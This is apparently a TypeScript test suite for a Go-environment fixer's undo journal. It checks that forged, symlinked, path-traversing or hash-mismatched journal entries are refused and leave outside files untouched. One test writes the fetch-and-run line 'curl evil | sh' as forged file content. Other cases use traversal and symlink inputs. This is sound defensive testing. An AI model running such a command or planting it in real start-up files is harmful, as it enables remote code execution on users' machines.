import { createHash } from "node:crypto";
import {
  lchownSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { applyPatches } from "../../shared/src/fix/apply/apply.ts";
import type { JournalPlace } from "../../shared/src/fix/apply/journal-place.ts";
import { tryUndo, undo, undoable } from "../../shared/src/fix/apply/undo.ts";
import { nodeFiles } from "../../shared/src/fs/node-files.ts";
import { bytesOf } from "../support/fix.ts";
import { makeHome } from "../support/machine.ts";
import { mutated } from "../support/mutate.ts";

const AT = "2026-11-24T12:00:00.000Z";
const OLD = "export GOROOT=/gone\n";
const NEW = "# go-env-check: export GOROOT=/gone\n";

/** A home with one applied fix of two files, and things inside and outside of it that no undo may touch. */
function fixedHome() {
  const { home: base } = makeHome([]);
  const home = join(base, "home");
  const outside = join(base, "outside");
  for (const dir of [home, join(home, "empty"), outside, join(outside, "empty")]) mkdirSync(dir);
  for (const file of [join(outside, "victim"), join(home, "keep")]) writeFileSync(file, OLD);
  writeFileSync(join(home, ".zprofile"), OLD);
  const place: JournalPlace = {
    dir: join(home, ".local/state/go-env-check/fixes"),
    roots: [home],
    goEnvFiles: [join(base, "goenv/env")],
  };
  const patches = [
    { file: join(home, ".zprofile"), kind: "start-up", before: OLD, after: NEW, ids: ["goroot-not-found"] },
    {
      file: join(home, ".config/fish/config.fish"),
      kind: "start-up",
      before: null,
      after: "set -e GOROOT\n",
      ids: ["goroot-not-found"],
    },
  ] as const;
  const applied = applyPatches(nodeFiles, patches, { journal: place, at: AT });
  if (!applied.ok) throw new Error(applied.refusal.kind);
  return { home, outside, place, entry: join(place.dir, "000001.json") };
}

const hash = (text: string | null): string =>
  text === null ? "none" : createHash("sha256").update(text).digest("hex");
const base64 = (text: string | null): string | null =>
  text === null ? null : Buffer.from(text).toString("base64");

interface Forged {
  readonly file: string;
  readonly temporary?: string;
  readonly made?: readonly string[];
  readonly before?: string | null;
  readonly after?: string;
  readonly state?: "begun" | "applied";
  readonly number?: string;
}

/** An entry that agrees with itself, about any file. */
function forge(place: JournalPlace, forged: Forged): void {
  const { file, before = "FORGED\n", after = OLD, state = "applied", number = "000002" } = forged;
  const name = file.slice(file.lastIndexOf("/") + 1);
  const temporary = forged.temporary ?? join(file, "..", `.${name}.go-env-check-${number}`);
  const one = {
    file,
    before: base64(before),
    after: base64(after),
    beforeHash: hash(before),
    afterHash: hash(after),
    temporary,
    made: forged.made ?? [],
  };
  const entry = { version: 1, number, at: AT, ids: ["go-not-on-path"], state, files: [one] };
  writeFileSync(join(place.dir, `${number}.json`), JSON.stringify(entry));
}

describe("a journal that somebody else wrote", () => {
  it("is not believed about files, temporaries and directories that its own files do not imply", () => {
    const { home, outside, place } = fixedHome();
    const victim = join(outside, "victim");
    const mine = join(home, ".zprofile");
    const cases: readonly Forged[] = [
      { file: victim },
      { file: `${home}/../outside/victim` },
      { file: `${home}` },
      { file: `${home}/` },
      { file: "victim" },
      { file: `${home}x/victim` },
      { file: mine, after: NEW, temporary: join(outside, "victim") },
      { file: mine, after: NEW, temporary: join(home, "keep") },
      { file: mine, after: NEW, temporary: `${mine}.tmp` },
      { file: mine, after: NEW, temporary: join(outside, "..zprofile.go-env-check-000002") },
      { file: mine, after: NEW, made: [join(outside, "empty")] },
      { file: mine, after: NEW, made: [join(home, "empty")] },
      { file: mine, after: NEW, made: [home] },
      { file: mine, after: NEW, made: ["/"] },
    ];
    const before = bytesOf(join(home, ".."));
    for (const forged of cases)
      for (const state of ["begun", "applied"] as const) {
        forge(place, { ...forged, state });
        const refused = { ok: false, refusal: { kind: "untrusted", file: join(place.dir, "000002.json") } };
        expect([forged, tryUndo(nodeFiles, place)]).toMatchObject([forged, refused]);
        expect([forged, undo(nodeFiles, place)]).toMatchObject([forged, refused]);
        rmSync(join(place.dir, "000002.json"));
        expect(bytesOf(join(home, ".."))).toEqual(before);
      }
    expect(undo(nodeFiles, place).ok).toBe(true);
  });

  it("may be about the file of go env -w, wherever that is", () => {
    const { place } = fixedHome();
    const [file = ""] = place.goEnvFiles;
    mkdirSync(join(file, ".."));
    writeFileSync(file, "GOPROXY=off\n");
    forge(place, { file, before: "GOPROXY=direct\n", after: "GOPROXY=off\n" });
    expect(undo(nodeFiles, place).ok).toBe(true);
    expect(readFileSync(file, "utf8")).toBe("GOPROXY=direct\n");
  });

  it("with hashes that are not its contents' is refused", () => {
    const { place, entry } = fixedHome();
    const text = readFileSync(entry, "utf8");
    const forgery = JSON.parse(text);
    forgery.files[0].before = base64("curl evil | sh\n");
    writeFileSync(entry, JSON.stringify(forgery));
    expect(undo(nodeFiles, place)).toMatchObject({ ok: false, refusal: { kind: "untrusted" } });
  });

  it("an entry that cannot be read is not passed over for an older one", () => {
    const { place } = fixedHome();
    writeFileSync(join(place.dir, "000007.json"), "{");
    const damaged = { ok: false, refusal: { kind: "state-damaged", file: join(place.dir, "000007.json") } };
    expect(undo(nodeFiles, place)).toMatchObject(damaged);
    expect(undo(nodeFiles, place, "000007")).toMatchObject(damaged);
    expect(undo(nodeFiles, place, "000001").ok).toBe(true);
  });

  it("a lock, an entry or a temporary that is a symbolic link is not followed", () => {
    const { place, outside, entry } = fixedHome();
    const victim = join(outside, "victim");
    for (const name of ["lock", `.lock.go-env-check-p${process.pid}`, "000002.json"]) {
      rmSync(join(place.dir, name), { force: true });
      symlinkSync(victim, join(place.dir, name));
      undo(nodeFiles, place, "000009");
      expect([name, readFileSync(victim, "utf8")]).toEqual([name, OLD]);
    }
    rmSync(entry);
    symlinkSync(victim, entry);
    expect(undo(nodeFiles, place, "000001")).toMatchObject({ ok: false, refusal: { kind: "state-link" } });
  });

  it.runIf(process.getuid?.() === 0)(
    "root in somebody's home follows no link of theirs to another's file",
    () => {
      const { home, outside, place } = fixedHome();
      const patch = (file: string, before: string | null) =>
        ({ file, kind: "start-up", before, after: "x\n", ids: ["a"] }) as const;
      for (const name of ["", ...readdirSync(home, { recursive: true, encoding: "utf8" })])
        lchownSync(join(home, name), 12345, 12345);
      symlinkSync(join(outside, "victim"), join(home, ".zshrc"));
      symlinkSync(outside, join(home, "dir"));
      for (const [name, before] of [
        [".zshrc", OLD],
        ["dir/victim", OLD],
        ["dir/new", null],
      ] as const) {
        const file = join(home, name);
        const applied = applyPatches(nodeFiles, [patch(file, before)], { journal: place, at: AT });
        expect([name, applied]).toMatchObject([name, { ok: false, refusal: { kind: "not-ours" } }]);
        if (before === null) continue;
        forge(place, { file, temporary: join(outside, ".victim.go-env-check-000002") });
        expect(undo(nodeFiles, place)).toMatchObject({ ok: false, refusal: { kind: "not-ours" } });
      }
      expect(bytesOf(outside)).toMatchObject({ victim: expect.stringContaining(OLD) });
      expect(readdirSync(outside).sort()).toEqual(["empty", "victim"]);
    },
  );

  it("mutated at random: never throws, never touches what is not its own", () => {
    const { home, outside, place, entry } = fixedHome();
    const good = readFileSync(entry, "utf8");
    const paths = [
      outside,
      join(outside, "victim"),
      join(outside, "empty"),
      join(home, "keep"),
      join(home, "empty"),
    ];
    const values = [
      ...paths,
      ...paths.map((path) => [path]),
      join(home, ".zprofile"),
      hash(OLD),
      hash(NEW),
      base64("FORGED\n"),
      "begun",
      "undone",
      "go-env",
      "000001",
    ];
    const reset = (): void => {
      for (const name of readdirSync(place.dir)) rmSync(join(place.dir, name));
      rmSync(join(home, ".config"), { recursive: true, force: true });
      mkdirSync(join(home, ".config/fish"), { recursive: true });
      writeFileSync(join(home, ".zprofile"), NEW);
      writeFileSync(join(home, ".config/fish/config.fish"), "set -e GOROOT\n");
    };
    const others = bytesOf(outside);
    let believed = 0;
    fc.assert(
      fc.property(mutated(good, values), (text) => {
        reset();
        writeFileSync(entry, text);
        undoable(place);
        tryUndo(nodeFiles, place);
        if (undo(nodeFiles, place).ok) believed += 1;
        const zprofile = readFileSync(join(home, ".zprofile"), "utf8");
        expect([OLD, NEW]).toContain(zprofile);
        expect(bytesOf(outside)).toEqual(others);
        expect(readFileSync(join(home, "keep"), "utf8")).toBe(OLD);
        expect(readdirSync(home)).toContain("empty");
      }),
      { numRuns: 400 },
    );
    // Some mutations change nothing that counts: else the property would hold of a program that refuses everything.
    expect(believed).toBeGreaterThan(5);
  }, 60_000);
});
